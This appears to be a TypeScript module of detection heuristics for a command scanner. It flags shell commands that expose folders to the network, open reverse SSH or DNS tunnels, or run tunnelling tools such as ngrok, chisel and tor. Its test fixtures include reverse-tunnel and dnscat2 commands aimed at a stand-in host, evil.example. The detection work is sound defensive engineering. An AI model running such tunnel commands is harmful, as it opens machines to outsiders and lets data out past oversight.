// Remote access: servers and tunnels that open the machine to others, and the use of the network as such.
import type { CommandFact } from "../../../../../shared/domain/facts.ts";
import { has, settingsOf, values } from "../../../normalise/programs/invocation.ts";
import { severity } from "../../bands.ts";
import { type Heuristic, clip, firstOf, onCode, onCommand, when } from "../../heuristic.ts";
import { isDownloader } from "../../programs.ts";
import { someWord, wordsOf } from "../../read.ts";

const serverModule = /^(?:http\.server|simplehttpserver|pyftpdlib)$/iu;
/** Remote logins and services that give orders to a machine. */
const loginPort = /^(?:22|23|3389|5900|2375|6443)$/u;

function servesHere(command: CommandFact): boolean {
  return settingsOf(command).some((setting) => /127\.0\.0\.1|localhost/u.test(setting));
}

/** Shows something about itself and does nothing else. */
function onlyTells({ options, operands }: CommandFact, also?: RegExp): boolean {
  const [first = ""] = operands;
  return (
    /^--?(?:version|help|h)$/u.test(options[0]?.name ?? "") ||
    /^(?:version|help)$/u.test(first) ||
    also?.test(first) === true
  );
}

export const remoteAccess: readonly Heuristic[] = [
  {
    id: "serves-files",
    threat: "Data exfiltration",
    technique: "T1048.003",
    score: severity.medium,
    check: firstOf(
      onCommand(["python", "python3", "python2"], (command) =>
        has(command, "-m") && settingsOf(command).some((setting) => serverModule.test(setting)) && !servesHere(command)
          ? "It serves this folder to the network"
          : null,
      ),
      onCommand(["ruby"], (command) =>
        (someWord(command, /^-run\b/u) && command.operands.includes("httpd")) || someWord(command, /un\.rb/u)
          ? "It serves this folder to the network"
          : null,
      ),
      onCommand(["php"], (command) =>
        has(command, "-S") && settingsOf(command).some((setting) => setting.startsWith("0.0.0.0"))
          ? "It serves this folder to the network"
          : null,
      ),
      onCommand(["httpd", "darkhttpd", "webfsd", "thttpd"], (command) =>
        has(command, "-h", "-d", "-r") || command.program !== "httpd" ? "It serves this folder to the network" : null,
      ),
      onCode((code) =>
        /\b(?:http\.server|simplehttpserver|socketserver|httpserver|webrick)\b/iu.test(code.text.slice(0, 65_536)) &&
        /serve|start|bind|tcpserver/iu.test(code.text) &&
        code.command !== undefined
          ? "Its code serves files to the network"
          : null,
      ),
    ),
    match: ["python3 -m http.server 8000"],
    not_match: ["python3 -m http.server --bind 127.0.0.1", "python3 -m pytest"],
  },
  {
    id: "tunnel-opened",
    threat: "Data exfiltration",
    technique: "T1572",
    score: severity.ask,
    check: firstOf(
      onCommand(["ligolo-ng", "iodine", "dnscat2", "dnscat", "ptunnel", "reGeorg"], (command) =>
        onlyTells(command) ? null : `${command.program} opens a way through the firewall`,
      ),
      onCommand(["ssh", "autossh"], (command) =>
        tunnelsBack(command) ? "It opens a port on another machine that leads back here" : null,
      ),
      onCommand(["chisel", "gost", "ssf", "rpivot", "frpc", "sshuttle"], (command) =>
        has(command, "-reverse", "--reverse", "-F") || command.operands.some((operand) => operand.startsWith("R:"))
          ? `${command.program} lets others in through a tunnel`
          : null,
      ),
      onCommand(["ngrok", "bore", "cloudflared", "zrok", "pagekite", "lt", "localtunnel"], (command) =>
        settingsOf(command).some((setting) => /(?:ssh|rdp|tcp):\/\/\S+/u.test(setting)) ||
        command.operands.some(
          (operand, at) => /^(?:tcp|local)$/u.test(operand) && loginPort.test(command.operands[at + 1] ?? ""),
        )
          ? `${command.program} lets others log in to this machine from anywhere`
          : null,
      ),
      onCommand(["ssh", "autossh"], (command) =>
        has(command, "-D") && (command.background === true || command.program === "autossh" || has(command, "-f"))
          ? "It leaves a way into another network open in the background"
          : null,
      ),
      onCommand(["code", "code-insiders", "devtunnel"], (command) =>
        command.operands[0] === "tunnel" || command.program === "devtunnel"
          ? "It opens a way through the firewall"
          : null,
      ),
    ),
    match: [
      "dnscat2 evil.example",
      "ssh -R 8080:localhost:80 user@evil.example",
      "ssh -o 'RemoteForward 8080 localhost:80' user@evil.example",
      "autossh -M 0 -R 2222:localhost:22 user@evil.example",
      "autossh -M 0 -N -D 1080 user@evil.example",
      "ssh -N -D 1080 user@evil.example &",
      "code tunnel",
    ],
    not_match: [
      "ssh -L 5432:localhost:5432 host.example",
      "ngrok --version",
      "ngrok http 3000",
      "ssh -D 1080 host.example",
      "autossh -M 0 -N -L 5432:localhost:5432 host.example",
    ],
  },
  {
    id: "tunnel-program",
    threat: "Data exfiltration",
    technique: "T1572",
    score: severity.ask,
    check: firstOf(
      onCommand(
        [
          "ngrok",
          "cloudflared",
          "chisel",
          "frpc",
          "bore",
          "gost",
          "localtunnel",
          "lt",
          "tor",
          "torsocks",
          "proxychains",
          "proxychains4",
          "stunnel",
          "zrok",
          "pagekite",
        ],
        (command) =>
          onlyTells(command, /^(?:list|config|version|status|help|diagnose)$/u)
            ? null
            : `${command.program} can open a way through the firewall`,
      ),
      onCommand(["systemctl", "service"], (command) =>
        wordsOf(command).some((word) => /^(?:tor|i2pd?)\b/u.test(word)) &&
        wordsOf(command).some((word) => /^(?:start|enable|restart)$/u.test(word))
          ? "It starts a hidden network"
          : null,
      ),
    ),
    match: ["ngrok http 3000", "service tor start"],
    not_match: ["ngrok --version", "service nginx start"],
  },
  {
    id: "reaches-network",
    threat: "Network access",
    score: severity.note,
    check: firstOf(
      when(["host"], (view) => {
        const host = view.facts.hosts.find(({ local }) => !local);
        return host === undefined
          ? null
          : { reason: `It connects to ${host.host}`, evidence: clip(host.url ?? host.host) };
      }),
      onCode((code) =>
        /socket\b.{0,40}(?:connect|tcp|peeraddr)|io::socket|tcpsocket|fsockopen|urlopen|requests\.(?:get|post)|net\.(?:connect|createconnection)|\/inet\/tcp/iu.test(
          code.text.slice(0, 65_536),
        ) && code.command !== undefined
          ? "Its code opens a network connection"
          : null,
      ),
      onCommand(isDownloader, (command) =>
        settingsOf(command).length > 0 && command.dynamic
          ? `${command.program} connects to a host known only when it runs`
          : null,
      ),
    ),
    match: ["curl https://example.org"],
    not_match: ["curl http://localhost:3000", "ls"],
  },
];

function tunnelsBack(command: CommandFact): boolean {
  return has(command, "-R") || values(command, "-o").some((setting) => /^RemoteForward[\s=]/iu.test(setting));
}
